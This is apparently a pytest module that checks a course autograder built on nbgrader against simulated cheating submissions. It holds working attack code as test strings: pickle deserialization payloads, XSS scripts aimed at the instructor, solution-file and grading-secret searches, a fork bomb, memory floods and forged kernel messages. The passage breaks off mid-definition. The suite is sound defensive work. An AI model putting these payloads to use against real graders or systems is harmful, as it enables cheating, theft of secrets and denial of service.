"""Submissions that try to game the grader get nothing, and nothing leaks: through the real grading command.

Every attacker below starts from the untouched release of assignment 3 (whose stubs earn 0 points)
and adds cells, or files beside the notebook, that try one route to points or to hidden material:
the routes students used against the first grader (reading the instructor's solutions by every
file reader, replacing check functions through sys.modules, saving library code objects, printing
the checks' source, files written during grading), and classes of route around them (forging the
probes' data, reaching the network, breaking the kernel). Each must score no more than the
untouched notebook, and a correct submission graded in the same batch keeps its full marks.
"""

from __future__ import annotations

import html
import json
import logging
import os
import pickle
import re
import subprocess
import sys
import tempfile
from pathlib import Path

import nbformat
import pytest

from tests.a3_submissions import CORRECT
from tests.conftest import REPO, nbgrader_env, run
from tests.grading_harness import Student, class_tests
from tests.test_grading_a3 import ASSIGNMENT, NOTEBOOK, POINTS

# Finds the instructor's solution notebook wherever it may be, and defines its solution cells. Every
# attack that reads files ends here; it only succeeds if the file is reachable.
FIND_AND_USE = r'''
import json as _json, os as _os
def _places():
    yield REPO + "/solutions/a3_dcgan/dcgan.ipynb"
    yield "../../solutions/a3_dcgan/dcgan.ipynb"
    for top in ("/work", "/home", "/tmp", "/srv", "/root", "/opt", "/var", "/grading", "/"):
        for folder, _dirs, files in _os.walk(top):
            if not folder.startswith(("/proc", "/sys", "/dev", "/usr")):
                yield from (_os.path.join(folder, f) for f in files if f == "dcgan.ipynb")
def _solution_sources(read):
    for place in _places():
        try:
            nb = _json.loads(read(place))
        except Exception:
            continue
        cells = ["".join(c["source"]) for c in nb["cells"] if "BEGIN SOLUTION" in "".join(c["source"])]
        if cells:
            return cells
    return []
'''.replace("REPO", repr(str(REPO)))

SOLUTION = REPO / "solutions" / ASSIGNMENT / NOTEBOOK


def precomputed_records() -> dict[str, str]:
    """part -> the probe record of a correct answer to that a3 part (someone else's, say), computed as a
    student could before handing in (no grading salt set): correct data for the probe inputs without a salt."""
    from autograder.probes import SALT, counterparts
    from autograder.probes.record import probe
    from tests.test_grading_a3 import define

    assert not os.environ.get(SALT)
    return {part: probe(ASSIGNMENT, part, define(part, CORRECT["functional"][part])).encode()
            for part in counterparts(ASSIGNMENT)}


# Shows a precomputed record at the end of each graded test cell (after the grader's probe, if that ran), so
# that the last probe data of the cell, the one the grader keeps, is the forged one.
FORGE = r"""
import json as _json, re as _re
from IPython import get_ipython as _ipython
from IPython.display import display as _display
_forged = _json.load(open("records.json"))
def _show_forged(result):
    found = _re.search(r"run\(\s*['\"]a3_dcgan['\"],\s*['\"](\w+)['\"]", result.info.raw_cell or "")
    if found and found.group(1) in _forged:
        _display({"application/vnd.gancourse.probe+json": {"part": found.group(1), "npz": _forged[found.group(1)]}},
                 raw=True)
_ipython().events.register("post_run_cell", _show_forged)
"""


def attack(*cells: str, files: dict | None = None) -> Student:
    """The untouched release with ``cells`` inserted after the set-up cell: it must score 0."""
    return Student(extra_cells=[(2 + i, c) for i, c in enumerate(cells)], files=files or {}, expected=0)


def _pickle_payload() -> bytes:
    class Exploit:
        def __reduce__(self):
            code = FIND_AND_USE + ("\nimport __main__\nfor _c in _solution_sources(lambda p: open(p).read()):\n"
                                   "    exec(_c, __main__.__dict__)\n")
            return (exec, (code,))
    return pickle.dumps(Exploit())


USE_SOURCES = "for _c in _sources:\n    exec(_c, globals())\n"

ATTACKERS = {
    # Reading the instructor's solutions, by every route students found, and more.
    "helper_module": attack("import helper\nhelper.define(globals())",
                            files={"helper.py": FIND_AND_USE + "\ndef define(ns):\n"
                                   "    for c in _solution_sources(lambda p: open(p).read()):\n        exec(c, ns)\n"}),
    "numpy_fromfile": attack(FIND_AND_USE + "import numpy\n"
                             "_sources = _solution_sources(lambda p: numpy.fromfile(p, dtype=numpy.uint8).tobytes())\n"
                             + USE_SOURCES),
    "pickle_torch_load": attack("torch.load('payload.pt', weights_only=False)",
                                files={"payload.pt": _pickle_payload()}),
    "builtins_via_globals": attack(FIND_AND_USE + "_open = data.load_mnist_embedded.__globals__['__builtins__']"
                                   "['open']\n_sources = _solution_sources(lambda p: _open(p).read())\n" + USE_SOURCES),
    "import_module_attribute": attack(FIND_AND_USE + "_io = torch.serialization.__dict__['io']\n"
                                      "_sources = _solution_sources(lambda p: _io.open(p).read())\n" + USE_SOURCES),
    "subprocess_shell": attack("import subprocess\n_out = subprocess.run(['sh', '-c', 'cat $(find / -name dcgan.ipynb "
                               "2>/dev/null | head -1)'], capture_output=True, text=True).stdout\n"
                               "import json\n_sources = [''.join(c['source']) for c in json.loads(_out)['cells'] "
                               "if 'BEGIN SOLUTION' in ''.join(c['source'])] if _out else []\n" + USE_SOURCES),
    # Replacing what the tests use: the probe entry point and its record, through sys.modules.
    "replace_probe_in_sys_modules": attack(
        "import sys, importlib\n_probes = importlib.import_module('autograder.probes')\n"
        "_rec = importlib.import_module('autograder.probes.record')\n"
        "_real = _rec.Record.encode\n"
        "def _forged(self):\n    self.facts = {'probe': 'ok', 'build': None}\n    self.arrays = {}\n"
        "    return _real(self)\n"
        "_rec.Record.encode = _forged\n"
        "sys.modules['autograder.probes'].run = lambda *a, **k: print('all hidden checks passed')\n"),
    "forged_payload_from_a_normal_cell": attack(
        "from IPython.display import display\nimport autograder.probes as _p\n"
        "for _part in ('DCGANGenerator', 'lerp'):\n"
        "    display({_p.PROBE_MIME: {'part': _part, 'npz': ''}}, raw=True)\n"),
    # The library's own code, saved before anything could switch it off.
    "library_code_object": attack(
        "import operator, types, gancourse.latent, gancourse.nets\n"
        "_code = operator.attrgetter('latent.lerp.__code__')(gancourse)\n"
        "lerp = types.FunctionType(_code, gancourse.latent.__dict__)\n"
        "DCGANGenerator = operator.attrgetter('nets.DCGANGenerator')(gancourse)\n"),
    # Printing every grader module and every file it can find, into its own output (the feedback).
    "prints_everything": Student(expected=0, extra_cells=[(999,
        "import sys, os\nfor _n, _m in list(sys.modules.items()):\n"
        "    if _n.startswith(('autograder', 'gancourse')) and getattr(_m, '__file__', None):\n"
        "        print(_n, open(_m.__file__).read()[:20000])\n"
        "for _f in ('/grading/sandbox_start.py', os.environ.get('HOME', '') + '/.bash_history'):\n"
        "    print(open(_f).read() if os.path.exists(_f) else '')\n"
        "print(In)\n")]),
    # Files written while grading, meant to travel back with the feedback.
    "writes_files": attack(
        "import os\nfor _place in ('leak.txt', '../leak.txt', os.path.expanduser('~/leak.txt'), '/tmp/leak.txt',\n"
        "               'feedback/leak.txt'):\n"
        "    try:\n        os.makedirs(os.path.dirname(_place) or '.', exist_ok=True)\n"
        "        open(_place, 'w').write('### BEGIN SOLUTION\\nleaked\\n### END SOLUTION\\n')\n"
        "    except OSError:\n        pass\n"),
    # Symbolic links, which nbgrader follows when it grades and when it copies files into feedback: the
    # notebook itself a link to the instructor's solution, or side files linked to instructor files.
    "notebook_is_a_link": Student(expected=0, links={NOTEBOOK: str(SOLUTION)}),
    "files_linked_to_instructor_files": Student(expected=0, links={
        "leak.html": str(SOLUTION), "judge.html": str(REPO / "autograder" / "judges" / "a3.py"),
        "data/thresholds.html": str(REPO / "autograder" / "reference" / "portfolio.json")}),
    # The instructor's source version, copied as a plain file (what `nbgrader collect` makes of a link
    # that a student puts into the exchange).
    "submits_the_source_version": Student(expected=0, raw_text=SOLUTION.read_text()),
    # Pages of its own beside the notebook, meant to go back with the feedback as if from the grader.
    "ships_html_files": attack(files={"notes.html": "<p>### BEGIN SOLUTION</p>",
                                      "data/more.html": "<p>### BEGIN HIDDEN TESTS</p>"}),
    # Data of the probes' own kind from a student's cell, a lot of it: never kept, whatever its size.
    "floods_probe_data": attack("from IPython.display import display\nimport autograder.probes as _p\n"
                                "for _ in range(40):\n"
                                "    display({_p.PROBE_MIME: {'part': 'lerp', 'npz': 'x' * 1_000_000}}, raw=True)\n"),
    # Probe data worked out before grading with the course library (correct for unsalted inputs), shown after
    # each graded test cell by an IPython hook, in a notebook that answers nothing.
    "precomputed_probe_records": attack(FORGE, files={"records.json": json.dumps(precomputed_records())}),
    # Results (execute_result outputs) added to every cell's outputs by an IPython hook: nbgrader scores a
    # test cell by its first error or result, where text is full marks and a number partial credit.
    "results_from_a_hook": attack("def _after_cell(result=None):\n    get_ipython().displayhook('ok')\n"
                                  "get_ipython().events.register('post_run_cell', _after_cell)\n"),
    "numbers_from_a_hook": attack("def _after_cell(result=None):\n    get_ipython().displayhook(1.5)\n"
                                  "    get_ipython().displayhook(99)\n"
                                  "get_ipython().events.register('post_run_cell', _after_cell)\n"),
    "empty_results_from_a_hook": attack(
        "def _after_cell(result=None):\n    _hook = get_ipython().displayhook\n"
        "    _hook.start_displayhook(); _hook.write_output_prompt()\n"
        "    _hook.write_format_data({'text/html': '<b>no text</b>'}, {}); _hook.finish_displayhook()\n"
        "get_ipython().events.register('post_run_cell', _after_cell)\n"),
    # The grading secret the salt is made with, looked for everywhere the kernel can see.
    "reads_the_grading_secret": attack(
        "import os\nfor _folder, _dirs, _files in os.walk('/'):\n"
        "    _dirs[:] = [d for d in _dirs if os.path.join(_folder, d) not in ('/proc', '/sys', '/dev', '/usr')]\n"
        "    if '.grading_secret' in _files:\n"
        "        print('found the secret:', open(os.path.join(_folder, '.grading_secret')).read())\n"
        "print('searched every folder')\n"),
    # The network, to send anything anywhere.
    "network": attack("import urllib.request\ntry:\n    urllib.request.urlopen('http://pypi.org', timeout=3)\n"
                      "except Exception as _err:\n    print('no network:', type(_err).__name__)\n"),
}

def _graded_cell(grade_id: str, points: int, source: str, solution: bool = False):
    """An edit that adds a cell claiming to be graded (nbgrader metadata of the student's own making)."""
    def edit(nb):
        cell = nbformat.v4.new_code_cell(source)
        cell.metadata["nbgrader"] = {"grade": True, "grade_id": grade_id, "points": points, "solution": solution,
                                     "locked": False, "schema_version": 3}
        nb.cells.insert(3, cell)
    return edit


def _markdown_cell(source: str):
    def edit(nb):
        nb.cells.insert(2, nbformat.v4.new_markdown_cell(source))
    return edit


# Scripts for the instructor's browser (an outside attacker's route to the gradebook and the solutions through
# formgrader's page): an HTML output with a script and an <img onerror>, and raw HTML in a markdown cell.
XSS_MARK = "window.PWNED=(window.PWNED||'')+' {}'"
_XSS_OUTPUTS = ["<script>" + XSS_MARK.format("script") + "</script>",
                '<img src=x onerror="' + XSS_MARK.format("html") + '">']
ATTACKERS["scripts_for_the_instructor"] = Student(
    expected=0, edit=_markdown_cell('<img src=x onerror="' + XSS_MARK.format("markdown") + '">'),
    extra_cells=[(3, "from IPython.display import HTML, Javascript, display\n"
                     + "".join(f"display(HTML({html!r}))\n" for html in _XSS_OUTPUTS)
                     + f"display(Javascript({XSS_MARK.format('js')!r}))\n")])


# Lines for the instructor's grading log that look like the grader's, written to every file the kernel holds open
# (its stdout and stderr once reached the log file itself): an error naming another student, and the busy
# gradebook that makes the grading command grade a student again.
FORGED_LOG_LINE = "[AutogradeApp | ERROR] honest: forged by the sandbox, database is locked"
AFTER_THE_LAST_CELL = b"an exit handler of the student ran after the last cell\n"
ATTACKERS["writes_into_the_grading_log"] = attack(
    "import os, stat\n"
    f"_forged = {chr(10) + FORGED_LOG_LINE + chr(10)!r}.encode()\n"
    "for _fd in range(1, 1024):\n"
    "    try:\n"
    "        _mode = os.fstat(_fd).st_mode\n"
    "    except OSError:\n"
    "        continue\n"
    "    if stat.S_ISREG(_mode) or stat.S_ISFIFO(_mode):\n"
    "        try:\n"
    "            os.write(_fd, _forged * 3)\n"
    "        except OSError:\n"
    "            pass\n"
    "import atexit\n"
    f"atexit.register(os.write, 1, {AFTER_THE_LAST_CELL!r})\n"
    "print('written')\n")


ATTACKERS.update({
    # Cells that claim points through nbgrader's metadata: a new graded cell, and a second copy of a test cell
    # with more points and nothing in it.
    "claims_a_graded_cell_of_its_own": Student(expected=0, edit=_graded_cell("test_bonus", 100, "print('ok')")),
    "copies_a_test_cell_with_more_points": Student(expected=0, edit=_graded_cell("test_lerp", 50, "pass")),
    "claims_a_written_answer_cell": Student(expected=0, edit=_graded_cell("test_slerp", 2, "pass", solution=True)),
})


# Broken or hostile kernels, each after some parts were graded: the parts before keep their points, and
# after a loop that the interrupt stops (or a memory hog, or a flood of output) the rest is graded too.
_SOLVED = CORRECT["functional"]
_AFTER_D, _AFTER_INIT, _AFTER_LERP, _END = 7, 10, 13, 999  # insert positions in the release notebook
# the points of a kernel stopped in a cell after lerp's test: every part before slerp
_UP_TO_LERP = {"test_DCGANGenerator": 4, "test_DCGANDiscriminator": 3, "test_dcgan_weights_init": 2, "test_lerp": 1}
BREAKERS = {
    "kills_its_kernel": Student(answers=_SOLVED, extra_cells=[(_AFTER_D + 1, "import os\nos._exit(1)")],
                                expected={"test_DCGANGenerator": 4, "test_DCGANDiscriminator": 3}),
    "hangs_ignoring_interrupts": Student(
        answers=_SOLVED, extra_cells=[(_AFTER_INIT + 1, "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                                        "while True:\n    pass")],
        expected={"test_DCGANGenerator": 4, "test_DCGANDiscriminator": 3, "test_dcgan_weights_init": 2}),
    "plain_infinite_loop": Student(answers=_SOLVED, extra_cells=[(_AFTER_D + 1, "while True:\n    pass")]),
    "memory_hog": Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, "hog = bytearray(64 * 2**30)")]),
    "floods_output": Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, "for _ in range(200_000):\n"
                                                                              "    print('x' * 500)")]),
    "fork_bomb": Student(answers=_SOLVED, extra_cells=[(_END, "import os\nwhile True:\n    os.fork()")]),
    "not_json": Student(raw_text="{this is not a notebook", expected=0),
    # three processes of 500 MB each: every one is within the kernel's own limit, together they are over the
    # sandbox's (1280 MB for this class, TOTAL_MEMORY); the watch kills the sandbox, slerp after it is not run. The
    # cell waits until each has its memory (under the sandbox's one core and a busy machine a fixed 8 s was too short:
    # the cell ended first, and the student got 12/12). The total is low so that the limit comes well before the
    # cell's 10 s: this machine's virtual memory gives a sandbox about 300 MB/s, and 1.2 GB a process (3072 MB
    # in all) raced the time limit, and lost under CI's load
    "memory_in_three_processes": Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, (
        "import os, time\n"
        "_done, _tell = os.pipe()\n"
        "for _ in range(3):\n"
        "    if os.fork() == 0:\n"
        "        _held = b'x' * (500 * 2**20)\n"
        "        os.write(_tell, b'.')\n"
        "        time.sleep(60)\n"
        "        os._exit(0)\n"
        "_told = b''\n"
        "while len(_told) < 3:\n"
        "    _told += os.read(_done, 3)\n"
        "time.sleep(2)"))], expected=_UP_TO_LERP),
    # 64 MB into the kernel's connection folder, which is on the grader's disk: refused when the grader runs as
    # root (the folder is the grader's once the kernel has started), else the watch kills the sandbox
    "fills_the_connection_folder": Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, (
        "import os, time\n"
        "from ipykernel.connect import get_connection_file\n"
        "_folder = os.path.dirname(get_connection_file())\n"
        "try:\n"
        "    for _i in range(64):\n"
        "        with open(os.path.join(_folder, f'fill{_i}'), 'wb') as _f:\n"
        "            _f.write(b'x' * 2**20)\n"
        "    print('wrote 64 MB')\n"
        "except OSError as _err:\n"
        "    print('refused:', type(_err).__name__)\n"
        "time.sleep(3)"))], expected="full" if os.geteuid() == 0 else _UP_TO_LERP),
}
# Outputs that passed the output limits before (an outside tester's second pass): one display updated in place
# rewrote every earlier display with its id; widget messages parked their buffers in the grader's process and in
# the notebook's metadata; an error output's name, value and traceback were not counted. Each is a few MB here; the
# autograded notebook must stay within the 2 MB of output a notebook keeps.
SHADOW_LAUNCHER = "the submission's ipykernel_launcher ran"
BREAKERS.update({
    "updates_one_display_many_times": Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, (
        "from IPython.display import display, update_display\n"
        "for _ in range(20):\n"
        "    display({'text/plain': 'x'}, raw=True, display_id='same')\n"
        "update_display({'text/plain': 'U' * (5 << 20)}, raw=True, display_id='same')"))]),
    "parks_widget_buffers": Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, (
        "from comm import create_comm\n"
        "_buffer = memoryview(bytes(16 << 20))\n"
        "for _ in range(6):\n"
        "    create_comm(target_name='jupyter.widget', buffers=[_buffer],\n"
        "                data={'state': {'_model_name': 'X'}, 'buffer_paths': [['b']]})"))]),
    "huge_error_outputs": Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, (
        "for _ in range(6):\n"
        "    get_ipython()._showtraceback(ValueError, 'v' * (4 << 20), ['t' * (4 << 20)])"))]),
    # a module of the submission named like the one the kernel starts from: it must never run
    "shadows_the_kernel_launcher": Student(answers=_SOLVED, files={"ipykernel_launcher.py": (
        "import sys\n"
        f"print({SHADOW_LAUNCHER!r}, file=sys.stderr, flush=True)\n"
        "sys.path.pop(0)\n"
        "del sys.modules['ipykernel_launcher']\n"
        "import runpy\n"
        "runpy.run_module('ipykernel_launcher', run_name='__main__')\n")}),
    # an honest helper module beside the notebook still imports, from the end of the kernel's path
    "imports_its_own_helper": Student(
        answers=_SOLVED, files={"my_helpers.py": "def double(x):\n    return 2 * x\n"},
        extra_cells=[(_END, "from my_helpers import double\nprint('helper says', double(2))")]),
})
# The kernel's messages are taken in whole by the grader's own process, outside the sandbox (an outside tester's
# fourth pass): probe data padded with empty lists, 60 MB that grew to 1.5 GB once parsed, and one message made of a
# 40 MB buffer sent a hundred times (4 GB in the grader, 40 MB in the kernel). The probe limit drops the first
# (24 MB here, under the old limit of 64 MB: the parts scored); the watch stops the kernel whose messages take up more
# than Limits.received_mb in the grader.
PADDED_PROBE = (
    "import IPython.display as _shown\n"
    "_display = _shown.display\n"
    "def _padded(*objs, **kw):\n"
    "    mime = 'application/vnd.gancourse.probe+json'\n"
    "    if (objs and isinstance(objs[0], dict) and mime in objs[0]\n"
    "            and objs[0][mime].get('part') in ('lerp', 'slerp')):\n"
    "        _display({mime: {**objs[0][mime], 'pad': [[]] * 8_000_000}}, *objs[1:], **kw)\n"
    "        __import__('time').sleep(3)  # the grader parses it before the cell's reply comes\n"
    "        return None\n"
    "    return _display(*objs, **kw)\n"
    "_shown.display = _padded")
BREAKERS.update({
    "pads_its_probe_data": Student(answers=_SOLVED, extra_cells=[(2, PADDED_PROBE)], expected={
        "test_DCGANGenerator": 4, "test_DCGANDiscriminator": 3, "test_dcgan_weights_init": 2}),
    "sends_the_grader_one_huge_message": Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, (
        "import time\n"
        "_kernel = get_ipython().kernel\n"
        "_buffer = memoryview(bytes(40 << 20))\n"
        "_kernel.session.send(_kernel.iopub_socket, 'display_data', {'data': {'text/plain': 'x'}, 'metadata': {}},\n"
        "                     buffers=[_buffer] * 100)\n"
        "time.sleep(20)"))], expected=_UP_TO_LERP),
})
# A message the grader's session cannot read (JSON nested 200,000 deep, which overflows the parser) ended the grading of
# the whole notebook before: every part scored 0 with nbgrader's "could not finish grading". Now the kernel is stopped,
# told why, and the parts before keep their points.
UNREADABLE_MESSAGE = (
    "import time\n"
    "_kernel = get_ipython().kernel\n"
    "_frames = _kernel.session.serialize(_kernel.session.msg('display_data', {'data': {}, 'metadata': {}}))\n"
    "_frames[-1] = ('{\"data\": {\"text/plain\": ' + '[' * 200_000 + ']' * 200_000 + '}, \"metadata\": {}}').encode()\n"
    "_frames[-5] = _kernel.session.sign(_frames[-4:])\n"
    "_kernel.iopub_socket.send_multipart(_frames)\n"
    "time.sleep(3)")
BREAKERS["sends_an_unreadable_message"] = Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, UNREADABLE_MESSAGE)],
                                                  expected=_UP_TO_LERP)
# Outputs that are not valid notebook content (a fifth outside pass): nbformat refused them after the run, and one of
# them ended the grading of the whole notebook, earlier parts and an earlier grading's record included. They are
# dropped, with a note, and the notebook is graded as usual.
INVALID_OUTPUTS = (
    "_kernel = get_ipython().kernel\n"
    "for _type, _content in [('stream', {'name': 5, 'text': 'x'}),\n"
    "                        ('execute_result', {'execution_count': 'abc', 'data': {}, 'metadata': {}}),\n"
    "                        ('error', {'ename': 'E', 'evalue': 'v', 'traceback': 'not a list'}),\n"
    "                        ('display_data', {'data': {'text/plain': 123}, 'metadata': []}),\n"
    "                        ('foo_bar', {'x': 1})]:\n"
    "    _kernel.session.send(_kernel.iopub_socket, _type, _content, parent=_kernel.get_parent('shell'))")
BREAKERS["sends_invalid_outputs"] = Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, INVALID_OUTPUTS)])
# The kernel's other channels (a sixth gaming pass, which found them held): replies on the shell channel with forged
# parents and 100 kB page payloads, in a flood, leave the grading as it was; answering 'ok' and 'idle' at once for
# every later cell only loses the test cells' probe data: the verdicts are the judge's, from the probes, not the cells'.
SHELL_FLOOD = (
    "import time\n"
    "_kernel = get_ipython().kernel\n"
    "_start, _n = time.time(), 0\n"
    "while time.time() - _start < 3:\n"
    "    _kernel.session.send(_kernel.shell_stream, 'execute_reply', {'status': 'ok', 'execution_count': 1,\n"
    "                         'payload': [{'source': 'page', 'data': {'text/plain': 'p' * 100_000}}]},\n"
    "                         parent={'msg_id': f'forged{_n}', 'msg_type': 'execute_request'},\n"
    "                         ident=_kernel._parent_ident['shell'])\n"
    "    _n += 1")
FORGED_REPLIES = (
    "_ip = get_ipython()\n"
    "_kernel = _ip.kernel\n"
    "def _answer_at_once(*_):\n"
    "    _parent = _kernel.get_parent('shell')\n"
    "    _kernel.session.send(_kernel.iopub_socket, 'status', {'execution_state': 'idle'}, parent=_parent)\n"
    "    _kernel.session.send(_kernel.shell_stream, 'execute_reply', {'status': 'ok', 'execution_count': 1,\n"
    "                         'payload': [], 'user_expressions': {}}, parent=_parent,\n"
    "                         ident=_kernel._parent_ident['shell'])\n"
    "_ip.events.register('pre_run_cell', _answer_at_once)")
# An exception whose text is huge only where ipykernel builds the execute reply, its traceback display silenced: the
# cell shows no error, so nbgrader adds the reply's, which had passed the output limits (300 MB in the notebook).
HIDDEN_HUGE_ERROR = (
    "import sys\n"
    "get_ipython()._showtraceback = lambda *_: None\n"
    "class _Hidden(Exception):\n"
    "    def __str__(self):\n"
    "        return 'x' * (8 << 20) if sys._getframe(1).f_code.co_name == 'do_execute' else 'small'\n"
    "raise _Hidden()")
BREAKERS["hides_a_huge_error_in_its_reply"] = Student(answers=_SOLVED,
                                                      extra_cells=[(_AFTER_LERP + 1, HIDDEN_HUGE_ERROR)])
# A kernel that never answers the grader's own request after a test cell (which defines a part left undefined) but sends
# some other message every second: nbclient's wait counted only silent stretches, so the grading waited until the
# student's whole time limit and scored nothing. The wait now has a time limit on the clock.
NEVER_ANSWERS = (
    "import asyncio\n"
    "_kernel = get_ipython().kernel\n"
    "_execute = _kernel.shell_handlers['execute_request']\n"
    "async def _stall(stream, ident, parent):\n"
    "    if parent['content'].get('silent'):\n"
    "        _n = 0\n"
    "        while True:\n"
    "            _kernel.session.send(stream, 'kernel_info_reply', {'status': 'ok'}, ident=ident,\n"
    "                                 parent={'msg_id': f'other{_n}', 'msg_type': 'kernel_info_request'})\n"
    "            _n += 1\n"
    "            await asyncio.sleep(1)\n"
    "    return await _execute(stream, ident, parent)\n"
    "_kernel.shell_handlers['execute_request'] = _stall")
BREAKERS["never_answers_the_grader"] = Student(answers=_SOLVED, extra_cells=[(2, NEVER_ANSWERS)],
                                               expected={"test_DCGANGenerator": 4})
BREAKERS["floods_the_shell_channel"] = Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, SHELL_FLOOD)])
ATTACKERS["forges_ok_replies"] = attack(FORGED_REPLIES)
# A kernel that keeps the grader's shell channel never empty, with validly signed replies to no request (a seventh
# outside pass): nbclient's wait for a cell's reply timed out only on an empty channel, so the cell ran on to the
# student's whole time limit (300 s here) and the grading scored nothing. The wait keeps its limit on the clock: the
# cell is interrupted after 10 s, and the kernel answers again.
SHELL_STARVE = (
    "import hashlib, hmac, zmq\n"
    "_kernel = get_ipython().kernel\n"
    "_ident, _key = _kernel._parent_ident['shell'], _kernel.session.key\n"
    "_rest = [b'{}', b'{}', b'{\"status\": \"ok\"}']\n"
    "_n = 0\n"
    "while True:\n"
    "    _header = (b'{\"msg_id\": \"stray%d\", \"msg_type\": \"kernel_info_reply\", \"session\": \"s\", '\n"
    "               b'\"username\": \"u\", \"date\": \"2026-01-01T00:00:00.000000Z\", \"version\": \"5.3\"}' % _n)\n"
    "    _signature = hmac.new(_key, _header + b''.join(_rest), hashlib.sha256).hexdigest().encode()\n"
    "    try:\n"
    "        _kernel.shell_stream.socket.send_multipart([*_ident, b'<IDS|MSG>', _signature, _header, *_rest],\n"
    "                                                   flags=zmq.NOBLOCK)\n"
    "    except zmq.Again:\n"
    "        pass\n"
    "    _n += 1")
BREAKERS["keeps_the_shell_channel_busy"] = Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, SHELL_STARVE)])
# The same cell interrupted between two frames of one of its sends (CI, once in many runs): the kernel's next message on
# that socket completed the half-sent one, the grader could not read the result, took that for a kernel that does not
# answer, and stopped it (10/12). Here the half-sent message is left on purpose before a plain busy loop: what the
# interrupt cut is passed over, and the kernel's answer after it counts.
HALF_SENT = (
    "import zmq\n"
    "_kernel = get_ipython().kernel\n"
    "_frames = _kernel.session.serialize(_kernel.session.msg('kernel_info_reply', {'status': 'ok'}))\n"
    "for _frame in [*_kernel._parent_ident['shell'], *_frames[:3]]:\n"
    "    _kernel.shell_stream.socket.send(_frame, zmq.SNDMORE)\n"
    "while True:\n"
    "    pass")
BREAKERS["leaves_a_message_half_sent"] = Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, HALF_SENT)])
# A validly signed message without its <IDS|MSG> delimiter frame (an eleventh outside pass): jupyter_client's split of
# the frames raised a bare ValueError, which ended the notebook's grading (0/12 where the parts before had earned 7),
# and after an interrupt it was taken for a kernel that does not answer. Now it is an unreadable message like any
# other: during a cell the kernel is stopped and the parts before keep their points; after an interrupt it is passed
# over.
UNDELIMITED = (
    "_kernel = get_ipython().kernel\n"
    "_frames = _kernel.session.serialize(_kernel.session.msg('stream', {'name': 'stdout', 'text': 'x'}))\n"
    "_frames.remove(b'<IDS|MSG>')\n")
BREAKERS["sends_a_message_without_its_delimiter"] = Student(
    answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, UNDELIMITED + (
        "import time\n"
        "_kernel.iopub_socket.send_multipart([b'stream', *_frames])\n"
        "time.sleep(3)"))], expected=_UP_TO_LERP)
BREAKERS["sends_an_undelimited_message_when_interrupted"] = Student(
    answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, UNDELIMITED + (
        "import signal\n"
        "def _on_interrupt(*args):\n"
        "    _kernel.shell_stream.socket.send_multipart([*_kernel._parent_ident['shell'], *_frames])\n"
        "    raise KeyboardInterrupt\n"
        "signal.signal(signal.SIGINT, _on_interrupt)\n"
        "while True:\n"
        "    pass"))])
# The cell's own reply padded with 10 million empty JSON lists (40 MB; the seventh pass's 75 MB grew the grader by
# 1.85 GB while parsed, past what the watch allows, which cannot act during the parse): refused unparsed.
PADDED_REPLY = (
    "_session = get_ipython().kernel.session\n"
    "_send = _session.send\n"
    "def _padded(stream, msg_type, content=None, *args, **kwargs):\n"
    "    if msg_type == 'execute_reply':\n"
    "        _session.send = _send\n"
    "        content = {**content, 'payload': [{'source': 'page', 'start': 0,\n"
    "                                           'data': {'text/plain': [[]] * 10_000_000}}]}\n"
    "    return _send(stream, msg_type, content, *args, **kwargs)\n"
    "_session.send = _padded")
BREAKERS["pads_its_cells_reply"] = Student(answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, PADDED_REPLY)],
                                           expected=_UP_TO_LERP)
# Replies nbgrader and nbclient index without a check (found while checking the eleventh outside pass): a cell's reply
# without a status, and error replies without their ename, evalue and traceback, ended the notebook's grading with a
# KeyError (0/12). A reply without a valid status now makes its cell a failed one, and an error's fields are filled in:
# the cell that sent it is not graded, and a test cell's points are the judge's verdict whatever its reply says, so a
# student who solved every part keeps every point.
def _rewritten_replies(content: str, once: bool) -> str:
    return ("_session = get_ipython().kernel.session\n"
            "_send = _session.send\n"
            "def _rewritten(stream, msg_type, content=None, *args, **kwargs):\n"
            "    if msg_type == 'execute_reply':\n"
            + ("        _session.send = _send\n" if once else "") +
            f"        content = {content}\n"
            "    return _send(stream, msg_type, content, *args, **kwargs)\n"
            "_session.send = _rewritten")


# Messages the grader's session read well but a library after it could not (a twelfth outside pass), each of
# which ended the notebook's grading (0/12): a stream whose text is a list of lines (valid notebook
# output, which nbgrader's output limit splits as a string) is dropped with a note; JSON nested 600 deep (nbformat
# recursed two frames a level), a lone surrogate (the notebook is written as UTF-8) and a message type of 5 MB
# (nbclient logs an unknown type whole: 100 MB of one student's log) are unreadable, so the kernel is stopped and the
# parts before keep their points.
def _sends(msg_type: str, content: str) -> str:
    return ("_kernel = get_ipython().kernel\n"
            f"_kernel.session.send(_kernel.iopub_socket, {msg_type}, {content}, parent=_kernel.get_parent('shell'))\n"
            "import time\n"
            "time.sleep(3)")


BREAKERS["sends_a_stream_whose_text_is_a_list"] = Student(
    answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, _sends("'stream'", "{'name': 'stdout', 'text': ['a\\n', 'b']}"))])
DEEP_DISPLAY = "{'data': {'application/json': _deep}, 'metadata': {}}"
BREAKERS["sends_a_display_nested_600_deep"] = Student(
    answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, "_deep = {}\nfor _ in range(600):\n    _deep = {'a': _deep}\n"
                                   + _sends("'display_data'", DEEP_DISPLAY))], expected=_UP_TO_LERP)
BREAKERS["sends_a_lone_surrogate"] = Student(
    answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, (
        "import json\n"
        "_session = get_ipython().kernel.session\n"
        "_session.pack = lambda obj: json.dumps(obj, default=str).encode()  # ASCII: the surrogate goes as \\ud800\n")
